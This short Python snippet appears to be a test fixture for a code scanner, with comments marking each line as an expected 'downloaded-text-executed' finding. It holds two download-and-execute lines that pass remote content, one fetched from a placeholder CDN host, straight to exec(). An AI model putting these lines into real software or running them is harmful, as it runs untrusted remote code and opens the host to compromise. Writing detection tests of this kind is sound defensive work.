import urllib.request

# expect: downloaded-text-executed
exec(urllib.request.urlopen("https://cdn.tool.example/p.py").read())
response = client.get(page)
# expect: downloaded-text-executed
exec(response.text)
